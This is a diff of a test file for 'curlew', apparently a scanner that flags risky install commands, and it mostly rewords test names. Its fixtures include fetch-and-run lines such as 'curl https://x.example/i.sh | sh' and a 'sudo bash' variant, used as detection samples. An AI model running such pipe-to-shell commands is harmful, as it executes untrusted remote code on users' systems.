@@ -2,7 +2,7 @@ import { execFileSync } from "node:child_process";
 import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { folderWith } from "./folder.js";
+import { folderWith } from "./folder-with.js";
 import { runHere, fakeDetector } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -16,7 +16,7 @@ describe("the selection of files", () => {
       .map((line) => JSON.parse(line).path as string);
   };
 
-  it("includes known kinds of text in folders, sorted, also hidden ones", async () => {
+  it("includes files of known types in folders, also hidden ones, in sorted order", async () => {
     const cwd = folderWith({
       "b.md": "b",
       "a.txt": "a",
@@ -76,7 +76,7 @@ describe("the selection of files", () => {
     ]);
   });
 
-  it("includes every file that is named, also if it is ignored, in node_modules or of an unknown kind", async () => {
+  it("includes every file that an argument names, even if it is ignored, in node_modules or of an unknown type", async () => {
     const cwd = folderWith({
       ".git/HEAD": "",
       ".gitignore": "node_modules\nx.bin\n",
@@ -145,7 +145,7 @@ describe("the selection of files", () => {
     expect(await scanned(cwd, "a/link.md")).toEqual(["a/link.md"]);
   });
 
-  it("includes standard input for -, and without a path if it is data", async () => {
+  it("includes standard input for -, or if there is no path and standard input contains text", async () => {
     expect((await runHere(["scan", "-"], { stdin: BAD })).stdout).toContain("<stdin>:1:1:");
     expect((await runHere(["scan"], { stdin: BAD })).status).toBe(1);
     expect((await runHere(["scan"], { cwd: folderWith({ "a.md": BAD }) })).stdout).toContain(
@@ -173,8 +173,8 @@ describe("the selection of files", () => {
   });
 });
 
-describe("the output for people", () => {
-  it("shows place, rule, excerpt, reason and a safer command", async () => {
+describe("the text output", () => {
+  it("shows location, rule, excerpt, reason and a safer command", async () => {
     const text = "Install:\n\n    curl -fsSL https://x.example/get/i.sh | sudo bash -s\n";
     const { stdout, status } = await runHere(["scan", "a.md"], {
       cwd: folderWith({ "a.md": text }),
@@ -263,7 +263,7 @@ describe("the output for people", () => {
     );
   });
 
-  it("uses colour by the usual conventions", async () => {
+  it("is coloured as the terminal, NO_COLOR, FORCE_COLOR, TERM and --no-color require", async () => {
     const coloured = async (args: string[], env: Record<string, string>, terminal: boolean) =>
       (await runHere(["scan", ...args, "-"], { stdin: BAD, env, terminal })).stdout.includes(
         "\x1b[",
@@ -280,17 +280,17 @@ describe("the output for people", () => {
   });
 });
 
-describe("exit status", () => {
+describe("the exit status of a scan", () => {
   it.each([
-    ["clean", ["ok.md"], 0],
+    ["a clean file", ["ok.md"], 0],
     ["findings", ["bad.md"], 1],
     ["an advisory only", ["advisory.md"], 0],
-    ["incomplete and nothing found", ["long.md"], 2],
-    ["incomplete with findings", ["long.md", "bad.md"], 1],
-    ["missing", ["ok.md", "missing.md"], 2],
-    ["missing, with findings", ["bad.md", "missing.md"], 2],
-    ["folder without readable files", ["empty"], 2],
-  ])("%s", async (_name, paths, expected) => {
+    ["an incompletely analyzed file without findings", ["long.md"], 2],
+    ["an incompletely analyzed file beside one with findings", ["long.md", "bad.md"], 1],
+    ["a missing file", ["ok.md", "missing.md"], 2],
+    ["a missing file beside one with findings", ["bad.md", "missing.md"], 2],
+    ["an empty folder", ["empty"], 2],
+  ])("of %s (%j) is %i", async (_name, paths, expected) => {
     const cwd = folderWith({
       "ok.md": "x",
       "bad.md": BAD,
@@ -302,7 +302,7 @@ describe("exit status", () => {
   });
 });
 
-describe("bad input", () => {
+describe("a scan with invalid input or arguments", () => {
   const said = async (args: string[], given: Parameters<typeof runHere>[1] = {}) => {
     const result = await runHere(["scan", ...args], given);
     expect(result.stderr).not.toMatch(/\n\s+at /);
@@ -334,7 +334,7 @@ describe("bad input", () => {
     );
   });
 
-  it("replaces invalid UTF-8 and reports it", async () => {
+  it("replaces and reports invalid UTF-8", async () => {
     const stdin = Buffer.concat([Buffer.from([0xff, 0x41, 0xc3, 0x20]), Buffer.from(BAD)]);
     const { stderr, stdout, status } = await said(["-"], { stdin });
     expect(stderr).toMatch(
@@ -356,7 +356,7 @@ describe("bad input", () => {
     expect((await said(["-"], { stdin: wtf8 })).stderr).toContain("not valid UTF-8");
   });
 
-  it("limits the size", async () => {
+  it("rejects a text that is longer than --max-size", async () => {
     const { stderr, status } = await said(["--max-size", "1K", "-"], { stdin: "x".repeat(1025) });
     expect([stderr, status]).toEqual([
       "curlew: <stdin>: longer than 1 KiB (--max-size), not scanned\n",
@@ -441,19 +441,19 @@ describe("help", () => {
     [["help", "hook"], 0, "Usage: curlew hook "],
     [["help", "hook", "instal"], 0, "Usage: curlew hook "],
     [["help", "hok", "install"], 0, "Usage: curlew [options] [command]"],
-  ])("%j is about the last command", async (args, expected, text) => {
+  ])("%j describes the most specific known command", async (args, expected, text) => {
     const { stdout, stderr, status } = await runHere(args);
     expect(stdout + stderr).toContain(text);
     expect(status).toBe(expected);
   });
 
-  it("suggests a command", async () => {
+  it("is suggested with a similar name for an unknown command", async () => {
     const { stderr, status } = await runHere(["scann"]);
     expect(stderr).toMatch(/^curlew: unknown command 'scann'[\s\S]*Did you mean scan\?/);
     expect(status).toBe(2);
   });
 
-  it("prints the version, and its help without a command", async () => {
+  it("is printed if there is no command, and --version prints the version", async () => {
     expect((await runHere(["--version"])).stdout).toBe("0.0.0\n");
     const { stderr, status } = await runHere([]);
     expect(stderr).toContain("Usage: curlew");
